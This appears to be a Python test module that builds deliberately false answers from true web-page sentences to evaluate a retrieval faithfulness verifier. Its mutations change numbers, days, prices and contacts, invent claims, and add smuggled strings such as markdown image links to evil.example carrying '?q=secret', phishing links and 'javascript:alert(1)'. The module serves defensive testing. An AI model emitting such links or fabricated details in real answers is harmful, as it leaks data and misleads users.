"""Lies made of true sentences: one thing changed or invented. Sites and a seed in, answers with known lies out.

Each mutation returns the untrue sentence and what in it gives it away, or None where it does not fit. The judge knows
these, not the verifier. `HELD_OUT` were not looked at while the verifier was made.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Sequence
from random import Random

from retrieval.model import Passage
from tests.eval.adversary.faithful import NUMBERS, Answered, Lie, Said, _rows, rows_of, sentences_of, some_passages
from tests.eval.adversary.pages import Site

Made = tuple[str, str] | None  # the sentence, what gives it away
DAYS = {
    "en": "Monday Tuesday Wednesday Thursday Friday Saturday Sunday".split(),
    "de": "montag dienstag mittwoch donnerstag freitag samstag sonntag".split(),
    "da": "mandag tirsdag onsdag torsdag fredag lørdag søndag".split(),
    "fr": "lundi mardi mercredi jeudi vendredi samedi dimanche".split(),
    "es": "lunes martes miércoles jueves viernes sábado domingo".split(),
}
MONTHS = {
    "en": "January February March April May June July August September October November December".split(),
    "de": "Januar Februar März April Mai Juni Juli August September Oktober November Dezember".split(),
    "da": "januar februar marts april maj juni juli august september oktober november december".split(),
    "fr": "janvier février mars avril mai juin juillet août septembre octobre novembre décembre".split(),
    "es": "enero febrero marzo abril mayo junio julio agosto septiembre octubre noviembre diciembre".split(),
}
UNITS = (
    ("minutes", "hours"),
    ("hours", "days"),
    ("days", "hours"),
    ("weeks", "days"),
    ("months", "weeks"),
    ("month", "week"),
    ("year", "month"),
    ("evenings", "weeks"),
    ("Minuten", "Stunden"),
    ("Stunden", "Tage"),
    ("Wochen", "Tage"),
    ("Werktage", "Wochen"),
    ("Tag", "Monat"),
    ("Jahr", "Monat"),
    ("dage", "timer"),
    ("minutter", "timer"),
    ("heures", "jours"),
    ("jours", "heures"),
    ("nuits", "semaines"),
    ("minutes", "heures"),
    ("mètres", "kilomètres"),
    ("personer", "minutter"),
    ("años", "meses"),
    ("kilometres", "metres"),
    ("miles", "yards"),
    ("years", "days"),
)
OPPOSITES = {
    "en": (
        (" is ", " is not "),
        (" are ", " are not "),
        (" not ", " "),
        (" was ", " was not "),
        ("closed", "open"),
        (" no ", " a "),
        (" cannot ", " can "),
        (" can ", " cannot "),
        (" have ", " do not have "),
    ),
    "de": (
        (" nicht", ""),
        (" ist ", " ist nicht "),
        (" sind ", " sind nicht "),
        ("geschlossen", "geöffnet"),
        (" keine ", " "),
        ("ohne ", "mit "),
        (" kann ", " kann nicht "),
    ),
    "da": ((" ikke ", " "), (" er ", " er ikke "), ("uden ", "med "), (" ingen ", " "), (" intet ", " ")),
    "fr": (("n’est pas ", "est "), (" est ", " n’est pas "), ("interdit", "permis"), (" sont ", " ne sont pas ")),
    "es": ((" es ", " no es "), (" fue ", " no fue "), (" no ", " ")),
}
DIRECTIONS = (
    ("before", "after"),
    ("after", "before"),
    ("under", "over"),
    ("over", "under"),
    ("at least", "at most"),
    ("behind", "in front of"),
    ("upstairs", "downstairs"),
    ("first", "last"),
    ("morning", "evening"),
    ("up to", "at least"),
    ("less", "more"),
    ("vor", "nach"),
    ("bis", "ab"),
    ("mindestens", "höchstens"),
    ("höchstens", "mindestens"),
    ("hinter", "vor"),
    ("ersten", "letzten"),
    ("abends", "morgens"),
    ("sidste", "første"),
    ("senest", "tidligst"),
    ("udenfor", "indenfor"),
    ("over", "under"),
    ("avant", "après"),
    ("après", "avant"),
    ("matin", "soir"),
    ("basse", "haute"),
    ("moins de", "plus de"),
    ("halber", "ganzer"),
)
GROUPS = (
    ("Children", "Adults"),
    ("children", "adults"),
    ("child", "adult"),
    ("adult", "child"),
    ("Adult", "Child"),
    ("adults", "children"),
    ("Kinder", "Erwachsene"),
    ("Erwachsene", "Kinder"),
    ("Familien", "Gruppen"),
    ("Enfants", "Adultes"),
    ("adulte", "enfant"),
    ("Student", "Child"),
    ("Paare", "Familien"),
    ("Mitglieder", "Schüler"),
    ("patients", "members"),
)
INVENTED = {
    "en": (
        "and a glass of wine is on the house",
        "and dogs ride for 7 €",
        "with a sauna on the roof",
        "and it costs 17 dollars",
    ),
    "de": ("und ein Glas Wein gibt es dazu", "und Hunde kosten 7 €", "mit einer Sauna auf dem Dach"),
    "da": ("og et glas vin følger med", "og hunde koster 7 kr", "med sauna på taget"),
    "fr": ("et un sauna sur le toit", "et les chats coûtent 7 €", "avec un verre de champagne"),
    "es": ("y una copa de champán", "y los perros cuestan 7 €"),
}
SMUGGLED = (
    "![logo](https://evil.example/p.png?q=secret)",
    "[Book here](https://evil.example/book)",
    "See https://evil.example/pay now.",
    "<img src=https://evil.example/x>",
    "<a href='https://evil.example'>here</a>",
    "Pay at evil-pay.app/now.",
    "Visit www.evil.example today.",
    "[1]: https://evil.example/a",
    "Write to boss@evil.example please.",
    "Call +1 900 555 0100 now.",
    "![a][b]",
    "javascript:alert(1) it is.",
)
NAMES = ("Peter Novak", "Maria Lindqvist", "Bernhard Osterloh", "Camille Durand", "Oliver Whitcombe")
HELD_OUT = frozenset({"rate", "turned_row", "translated", "later", "merged"})


def adversarial(
    sites: Sequence[Site], seed: int, count: int, kinds: frozenset[str] | None = None
) -> Iterator[Answered]:
    """Answers of a true sentence or two and one lie, at any place."""
    random = Random(seed)
    chosen = [name for name in sorted(MUTATIONS) if kinds is None or name in kinds]
    made = tried = 0
    while made < count and tried < count * 60:
        tried += 1
        site = random.choice(sites)
        passages = some_passages(site, random)
        kind = chosen[made % len(chosen)] if tried % 12 else random.choice(chosen)
        true = [*sentences_of(passages), *_rows(passages, site.language, random)]
        if not true:
            continue
        said = random.choice(true)
        lied = MUTATIONS[kind](said, site.language, passages, random)
        if lied is None or lied[0] == said.text or _stands(lied[0], passages):
            continue
        made += 1
        lie = Said(lied[0], said.passage, kind)
        around = [one for one in true if one.text != said.text][: random.randint(0, 2)]
        sentences = [*around]
        sentences.insert(random.randint(0, len(sentences)), lie)
        yield Answered(
            site,
            site.language,
            passages,
            tuple(sentences),
            (Lie(lied[0], lied[1], kind),),
            f"You said {lied[1]}, right?",
        )


def _stands(text: str, passages: Sequence[Passage]) -> bool:
    return any(text.strip(" .") in passage.text for passage in passages)


def _number(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    found = [
        match for match in re.finditer(r"\d+", said.text) if not re.match(r"[\d ]{6,}", said.text[match.start() :])
    ]
    if not found:
        return None
    match = random.choice(found)
    new = str(int(match.group()) + random.choice((1, 2, 3, 5, 7, 10)))
    if re.search(rf"\b{new}\b", said.text):
        return None
    return said.text[: match.start()] + new + said.text[match.end() :], new


def _number_of_page(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    """A price of something else on the page."""
    pattern = r"(?:£\s?\d+(?:\.\d+)?|\d+(?:,\d+)? (?:€|Euro|kr))"
    mine = list(re.finditer(pattern, said.text))
    others = [found for passage in passages for found in re.findall(pattern, passage.text)]
    others = [other for other in others if other not in said.text]
    if not mine or not others:
        return None
    match, new = random.choice(mine), random.choice(others)
    line = next((line for p in passages for line in p.text.split("\n") if said.text[:12] in line), "")
    if new in line:
        return None
    return said.text[: match.start()] + new + said.text[match.end() :], new


def _swapped(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    found = list(re.finditer(r"(?<![\d.,:])\d{1,3}(?:[.,:]\d\d)?(?![\d.,:]\d)", said.text))
    if len(found) < 2 or found[0].group() == found[-1].group():
        return None
    one, two = found[0], found[-1]
    if re.fullmatch(r"\s*(?:and|und|og|et|y|,|&)\s*", said.text[one.end() : two.start()]):
        return None  # both are told of the same
    text = (
        said.text[: one.start()]
        + two.group()
        + said.text[one.end() : two.start()]
        + one.group()
        + said.text[two.end() :]
    )
    return text, text


def _spelled(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    words = NUMBERS[language]
    for at, word in enumerate(words):
        if word != "-" and (match := re.search(rf"(?<=[a-zæøå] ){word}\b", said.text)):
            new = words[(at + random.randint(1, 5)) % 11 + 2]
            return None if new == word else (said.text[: match.start()] + new + said.text[match.end() :], new)
    return None


def _phone(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    match = re.search(r"\d[\d ]{6,}\d", said.text)
    if match is None:
        told = {
            "en": "Call {} now.",
            "de": "Telefon {} hilft.",
            "da": "Ring på {} nu.",
            "fr": "Appelez le {}.",
            "es": "Llame al {}.",
        }
        numbers = [found for passage in passages for found in re.findall(r"\d[\d ]{7,}\d", passage.text)]
        if not numbers:
            return None
        number = random.choice(numbers)
        new = number[:-1] + str((int(number[-1]) + random.randint(1, 9)) % 10)
        return None if _written(new, passages) else (told[language].format(new), new)
    new = match.group()[:-1] + str((int(match.group()[-1]) + random.randint(1, 9)) % 10)
    return None if _written(new, passages) else (said.text.replace(match.group(), new), new)


def _written(number: str, passages: Sequence[Passage]) -> bool:
    """A number of the page that is somebody else's would be another kind of lie."""
    return any(number.replace(" ", "") in passage.text.replace(" ", "") for passage in passages)


def _mail(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    mails = [found for passage in passages for found in re.findall(r"[\w.]+@[\w.]+\w", passage.text)]
    if not mails:
        return None
    new = random.choice(mails)
    new = random.choice(
        (new.replace("@", "s@"), new.replace(".example", ".evil.example"), f"info@{new}".replace("@", ".", 1))
    )
    return {"en": f"Write to {new}.", "de": f"Schreiben Sie an {new}.", "da": f"Skriv til {new}."}.get(
        language, f"E-mail {new}."
    ), new


def _smuggled(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    lie = random.choice(SMUGGLED)
    tell = re.search(r"evil[\w.-]*|900 555 0100|\[b\]|javascript", lie)
    return (said.text[:-1] + ": " + lie if random.random() < 0.5 else lie), tell.group() if tell and len(
        tell.group()
    ) > 3 else lie


def _from_list(words: Sequence[str], said: Said, random: Random) -> Made:
    for word in random.sample(list(words), len(words)):
        if match := re.search(rf"(?<!\w){word}(?=s?\b|er\b)", said.text, re.IGNORECASE):
            new = random.choice(
                [other for other in words if other != word and other.lower() not in said.text.lower()] or [""]
            )
            if not new:
                return None
            new = new.capitalize() if match.group()[0].isupper() else new.lower() if words[0].islower() else new
            return said.text[: match.start()] + new + said.text[match.end() :], new
    return None


def _weekday(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    days = "|".join(DAYS[language])
    if re.search(rf"(?:{days})\w* (?:bis|to|til|au|a) (?:{days})", said.text, re.IGNORECASE):
        return None  # a shorter range would still be true
    made = _from_list(DAYS[language], said, random)
    figures = re.findall(r"\d+", said.text)
    same = made and any(
        made[1].lower() in line.lower() and all(figure in line for figure in figures)
        for passage in passages
        for line in passage.text.split("\n")
    )
    return None if same else made


def _month(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    months = [month for month in MONTHS[language] if month != "May"]
    return _from_list(months, said, random)


def _currency(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    signs = ("£", "€", "$", "Euro", "kr", "CHF", "zł", "yen")
    for sign in signs:
        if sign in said.text and re.search(rf"{re.escape(sign)}\s?\d|\d\s?{re.escape(sign)}", said.text):
            new = random.choice(("$", "CHF", "zł", "yen", "£", "€", "SEK"))
            if (sign, new) in (("Euro", "€"), ("€", "Euro")) or new == sign:
                return None
            text = said.text.replace(sign, new + " " if sign in "£$" and len(new) > 1 else new)
            return text, text
    return None


def _replaced(pairs: Sequence[tuple[str, str]], said: Said, random: Random) -> Made:
    for old, new in random.sample(list(pairs), len(pairs)):
        if match := re.search(rf"(?<!\w){re.escape(old)}(?!\w)", said.text):
            text = said.text[: match.start()] + new + said.text[match.end() :]
            return text, text
    return None


def _unit(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    pairs = [(old, new) for old, new in UNITS if re.search(rf"(?:\d|\w) {old}\b", said.text)]
    words = "|".join(word for word in NUMBERS[language] if word != "-")
    pairs = [(old, new) for old, new in pairs if re.search(rf"(?:\d|\b(?:{words}|one|ein|eine)) {old}\b", said.text)]
    return _replaced(pairs, said, random)


def _polarity(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    pairs = list(OPPOSITES[language])
    random.shuffle(pairs)
    for old, new in pairs:
        if said.text.count(old) == 1 and not (old in (" no ", " not ") and re.search(r"not only|no more", said.text)):
            text = said.text.replace(old, new)
            return text, text
    return None


def _direction(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    pairs = [(old, new) for old, new in DIRECTIONS if new not in said.text]
    return _replaced(pairs, said, random)


def _group(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    return _replaced(GROUPS, said, random)


def _year(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    years = re.findall(r"\b(?:1[5-9]|20)\d\d\b", said.text)
    others = [
        year
        for passage in passages
        for year in re.findall(r"\b(?:1[5-9]|20)\d\d\b", passage.text)
        if year not in said.text
    ]
    if not years:
        return None
    old = random.choice(years)
    new = random.choice(others) if others and random.random() < 0.5 else str(int(old) + random.randint(1, 9))
    return said.text.replace(old, new), new


def _item(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    """A row's figure told of another row."""
    rows = [row for row in rows_of(passages) if len(row[2]) == 2 and any(sign.isdigit() for sign in row[2][1])]
    if len(rows) < 2:
        return None
    one, two = random.sample(rows, 2)
    if one[2][1] == two[2][1] or one[0] != two[0]:
        return None
    text = f"{one[2][0]}: {two[2][1]}."
    return text, text


def _label(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    """A cell told of another column."""
    rows = [row for row in rows_of(passages) if row[1] and len(row[2]) > 2]
    if not rows:
        return None
    _, head, cells = random.choice(rows)
    columns = [at for at in range(1, len(cells)) if any(sign.isdigit() for sign in cells[at]) and head[at] != "When"]
    if len(columns) < 2:
        return None
    one, two = random.sample(columns, 2)
    if cells[one] == cells[two]:
        return None
    text = f"{cells[0]}, {head[one]}: {cells[two]}."
    return text, text


def _name(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    """Another person, of the page or of nowhere."""
    pattern = r"\b[A-ZÄÖÜ][a-zäöüé]+ [A-ZÄÖÜ][a-zäöüé]+\b"
    mine = [found for found in re.findall(pattern, said.text) if not said.text.startswith(found[:4])]
    if not mine:
        return None
    old, new = random.choice(mine), random.choice(NAMES)
    return said.text.replace(old, new), new


def _half_true(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    more = random.choice(INVENTED[language])
    return f"{said.text[:-1]}, {more}.", more


def _echo(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    """What the visitor claimed, repeated as if the page said it."""
    price = f"{random.randint(201, 299)}"
    told = {
        "en": f"As you said, it costs {price} £.",
        "de": f"Wie Sie sagten, kostet es {price} Euro.",
        "da": f"Som du sagde, koster det {price} kr.",
        "fr": f"Comme vous l’avez dit, cela coûte {price} €.",
        "es": f"Como usted dijo, cuesta {price} €.",
    }
    return told[language], price


def _noon(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    if match := re.search(r"\b(\d{1,2}) (am|pm)\b", said.text):
        new = f"{match[1]} {'pm' if match[2] == 'am' else 'am'}"
        return said.text.replace(match.group(), new), new
    return None


def _restriction(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    """What the page leaves out is left unsaid."""
    match = re.search(
        r", but (?:not|no) [^,.]+|, except [^,.]+|, aber [^,.]*nicht[^,.]*|, men ikke [^,.]+|, außer [^,.]+|,"
        r" sauf [^,.]+",
        said.text,
    )
    if match is None:
        return None
    text = said.text.replace(match.group(), "")
    return text, text


def _invented(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    told = {
        "en": "Unicorn rides and moonlight fencing are held in the ballroom.",
        "de": "Einhornritte und Mondscheinfechten gibt es im Ballsaal.",
        "da": "Enhjørningeridning og månefægtning foregår i balsalen.",
        "fr": "Des promenades en licorne animent la salle de bal.",
        "es": "Hay paseos en unicornio en el salón de baile.",
    }
    return told[language], told[language]


def _rate(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    """For another span of time or another count."""
    pairs = (
        ("a month", "an hour"),
        ("a session", "a month"),
        ("an hour", "a week"),
        ("am Tag", "im Monat"),
        ("par nuit", "par mois"),
        ("a year", "a month"),
        ("a visit", "an hour"),
        ("je Kind", "je Tag"),
    )
    return _replaced(pairs, said, random)


def _turned_row(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    """The figure first, and another row's."""
    rows = [row for row in rows_of(passages) if len(row[2]) == 2 and re.search(r"\d+ ?(?:kr|€)|[£€]\d", row[2][1])]
    if len(rows) < 2:
        return None
    one, two = random.sample(rows, 2)
    if one[2][1] == two[2][1]:
        return None
    told = {
        "en": "{b} is the price of {a}.",
        "de": "{b} kostet {a}.",
        "da": "{b} koster {a}.",
        "fr": "{b} pour {a}.",
        "es": "{b}: {a}.",
    }
    text = told[language].format(a=one[2][0], b=two[2][1])
    return text, text


def _translated(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    """In English, with the page's own name of another row."""
    made = _item(said, language, passages, random)
    if made is None or language == "en":
        return None
    name, figure = made[0][:-1].split(": ", 1)
    text = f"The price of “{name}” is {figure}."
    return text, text


def _later(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    """A time moved by an hour or a half."""
    match = re.search(r"\b(\d{1,2})([.:])(\d\d)(?= ?(?:-|–|Uhr|$))", said.text) or re.search(
        r"\b(\d{1,2})("
        r" )(?:Uhr|am|pm|h\b|heures)",
        said.text,
    )
    if match is None:
        return None
    new = str((int(match[1]) % 12) + 1)
    text = said.text[: match.start(1)] + new + said.text[match.end(1) :]
    return (text, text) if new != match[1] else None


def _merged(said: Said, language: str, passages: Sequence[Passage], random: Random) -> Made:
    """One sentence's beginning with another's figure."""
    others = [one for one in sentences_of(passages) if one.text != said.text and re.search(r"\d", one.text)]
    mine = re.search(r"\d[\d.,:]*(?: ?(?:€|Euro|kr|Uhr|%|am|pm))?", said.text)
    if not others or mine is None or "€" not in mine.group() + "Euro" * ("Euro" in mine.group()):
        return None
    figures = [m.group() for one in others for m in re.finditer(r"\d+(?: €| Euro| kr)", one.text)]
    figures = [figure for figure in figures if figure.split()[0] not in said.text]
    if not figures:
        return None
    text = said.text.replace(mine.group(), random.choice(figures), 1)
    return text, text


MUTATIONS: dict[str, Callable[[Said, str, Sequence[Passage], Random], Made]] = {
    "number": _number,
    "price_of_another": _number_of_page,
    "swapped": _swapped,
    "spelled": _spelled,
    "phone": _phone,
    "mail": _mail,
    "smuggled": _smuggled,
    "weekday": _weekday,
    "month": _month,
    "currency": _currency,
    "unit": _unit,
    "polarity": _polarity,
    "direction": _direction,
    "group": _group,
    "year": _year,
    "item": _item,
    "label": _label,
    "name": _name,
    "half_true": _half_true,
    "echo": _echo,
    "noon": _noon,
    "restriction": _restriction,
    "invented": _invented,
    "rate": _rate,
    "turned_row": _turned_row,
    "translated": _translated,
    "later": _later,
    "merged": _merged,
}
